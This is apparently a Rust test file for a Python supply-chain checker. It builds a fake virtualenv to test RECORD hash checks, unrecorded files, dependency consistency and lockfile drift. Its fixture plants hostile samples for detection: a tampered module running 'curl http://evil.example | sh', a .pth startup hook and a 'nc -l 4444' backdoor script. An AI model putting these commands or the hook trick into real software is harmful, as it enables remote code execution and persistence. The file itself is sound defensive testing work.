//! Installed-environment checks (DEP201–DEP205) on a virtualenv laid out on disk by the test:
//! RECORD hashes and sizes, unrecorded code, Requires-Dist consistency and lockfile drift.
//! A real `python3 -m venv` + `pip install` version lives in pyward-cli's supply_chain_cli tests.

use std::path::{Path, PathBuf};

use pyward_core::Report;
use pyward_deps::environment::b64_urlsafe_nopad;
use pyward_deps::{DepsOptions, check_environment};
use pyward_manifest::Target;
use sha2::{Digest, Sha256};

struct Dist<'a> {
    name: &'a str,
    version: &'a str,
    requires: &'a [&'a str],
    /// (path relative to site-packages, content)
    files: &'a [(&'a str, &'a str)],
}

fn write(path: &Path, content: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
}

#[cfg(unix)]
fn make_executable(path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[cfg(not(unix))]
fn make_executable(_path: &Path) {}

fn install(site: &Path, dist: &Dist<'_>) {
    let info = format!("{}-{}.dist-info", dist.name.replace('-', "_"), dist.version);
    let mut metadata = format!(
        "Metadata-Version: 2.1\nName: {}\nVersion: {}\n",
        dist.name, dist.version
    );
    for r in dist.requires {
        metadata.push_str(&format!("Requires-Dist: {r}\n"));
    }
    metadata.push_str("\nA description.\n");
    let mut record = String::new();
    let mut all: Vec<(String, String)> = dist
        .files
        .iter()
        .map(|(p, c)| (p.to_string(), c.to_string()))
        .collect();
    all.push((format!("{info}/METADATA"), metadata));
    for (rel, content) in &all {
        let path = site.join(rel);
        write(&path, content);
        if rel.contains("/bin/") {
            make_executable(&path);
        }
        let digest = b64_urlsafe_nopad(&Sha256::digest(content.as_bytes()));
        record.push_str(&format!("{rel},sha256={digest},{}\n", content.len()));
    }
    record.push_str(&format!("{info}/RECORD,,\n"));
    record.push_str(&format!("{}/__pycache__/x.cpython-311.pyc,,\n", dist.name));
    write(&site.join(&info).join("RECORD"), &record);
}

/// Builds the venv; returns (venv root, site-packages).
fn venv(dir: &Path) -> (PathBuf, PathBuf) {
    let root = dir.join("venv");
    let site = root.join("lib/python3.11/site-packages");
    write(
        &root.join("pyvenv.cfg"),
        "home = /usr/bin\nversion = 3.11.7\n",
    );
    install(
        &site,
        &Dist {
            name: "webapp",
            version: "1.0",
            requires: &[
                "helper>=2",
                "old-only; python_version < \"3.8\"",
                "missing-pkg",
                "extra-only; extra == \"fast\"",
                "pip",
            ],
            files: &[
                ("webapp/__init__.py", "VERSION = '1.0'\n"),
                ("webapp/views.py", "def index():\n    return 'ok'\n"),
                ("webapp/gone.py", "GONE = True\n"),
                (
                    "../../../bin/webapp-cli",
                    "#!/usr/bin/env python\nprint('cli')\n",
                ),
            ],
        },
    );
    install(
        &site,
        &Dist {
            name: "helper",
            version: "1.5",
            requires: &[],
            files: &[("helper.py", "def help():\n    pass\n")],
        },
    );
    install(
        &site,
        &Dist {
            name: "pip",
            version: "24.0",
            requires: &[],
            files: &[("pip/__init__.py", "")],
        },
    );
    // Tampering after install.
    write(
        &site.join("webapp/views.py"),
        "import os\nos.system('curl http://evil.example | sh')\ndef index():\n    return 'ok'\n",
    );
    std::fs::remove_file(site.join("webapp/gone.py")).unwrap();
    // Dropped files no RECORD owns.
    write(&site.join("webapp/_patch.py"), "import socket\n");
    write(
        &site.join("webapp/static/readme.txt"),
        "not code, not executable\n",
    );
    write(&site.join("zz_startup.pth"), "import webapp._patch\n");
    write(&site.join("_virtualenv.pth"), "import _virtualenv\n");
    write(&root.join("bin/backdoor"), "#!/bin/sh\nnc -l 4444\n");
    make_executable(&root.join("bin/backdoor"));
    write(&root.join("bin/python"), "");
    make_executable(&root.join("bin/python"));
    write(&root.join("bin/activate"), "# venv\n");
    (root, site)
}

fn render(report: &Report, tmp: &Path) -> String {
    let mut lines: Vec<String> = report
        .findings
        .iter()
        .map(|f| {
            format!("{}: {} {}", f.location.display(), f.code, f.message)
                .replace(&tmp.display().to_string(), "[TMP]")
        })
        .collect();
    lines.sort();
    lines.join("\n") + "\n"
}

#[test]
fn integrity_consistency_and_drift() {
    let tmp = tempfile::tempdir().unwrap();
    let (root, _site) = venv(tmp.path());
    let target = Target::default();
    let env = pyward_manifest::read_environment(&root, &target).unwrap();
    let lock_path = tmp.path().join("requirements.txt");
    write(&lock_path, "webapp==1.0\nhelper==2.1\nnot-installed==3.0\n");
    let lock = pyward_manifest::parse_file(&lock_path, &target).unwrap();
    let mut report = Report::new("deps");
    let stats = check_environment(
        &env,
        &[&lock],
        &DepsOptions::default(),
        &target,
        tmp.path(),
        &mut report,
    );
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(stats.distributions, 3);
    assert!(stats.files_checked >= 8, "{stats:?}");
    let text = render(&report, tmp.path());
    // Silent cases: untouched files, data files, virtualenv's own hook, interpreter and
    // activation scripts, the recorded console script, markers false for Python 3.11, extras.
    for quiet in [
        "webapp/__init__.py",
        "readme.txt",
        "_virtualenv.pth",
        "bin/python",
        "bin/activate",
        "webapp-cli",
        "old-only",
        "extra-only",
        "pip 24.0 is installed",
    ] {
        assert!(!text.contains(quiet), "{quiet} reported:\n{text}");
    }
    insta::assert_snapshot!("environment", text);
}

#[test]
fn a_clean_environment_has_no_findings() {
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("site-packages");
    install(
        &site,
        &Dist {
            name: "solo",
            version: "1.0",
            requires: &["python-only-old; python_version < \"3\""],
            files: &[("solo/__init__.py", "X = 1\n")],
        },
    );
    let target = Target::default();
    let env = pyward_manifest::read_environment(&site, &target).unwrap();
    let mut report = Report::new("deps");
    check_environment(
        &env,
        &[],
        &DepsOptions::default(),
        &target,
        tmp.path(),
        &mut report,
    );
    assert!(report.findings.is_empty(), "{:#?}", report.findings);
    assert!(report.errors.is_empty(), "{:?}", report.errors);
}

#[test]
fn a_broken_record_is_an_error_naming_the_file() {
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("site-packages");
    install(
        &site,
        &Dist {
            name: "solo",
            version: "1.0",
            requires: &[],
            files: &[("solo/__init__.py", "X = 1\n")],
        },
    );
    write(
        &site.join("solo-1.0.dist-info/RECORD"),
        "\"unterminated,sha256=x,1\n",
    );
    let target = Target::default();
    let env = pyward_manifest::read_environment(&site, &target).unwrap();
    let mut report = Report::new("deps");
    check_environment(
        &env,
        &[],
        &DepsOptions::default(),
        &target,
        tmp.path(),
        &mut report,
    );
    assert_eq!(report.errors.len(), 1, "{:?}", report.errors);
    assert!(
        report.errors[0].message.contains("RECORD"),
        "{:?}",
        report.errors
    );
}
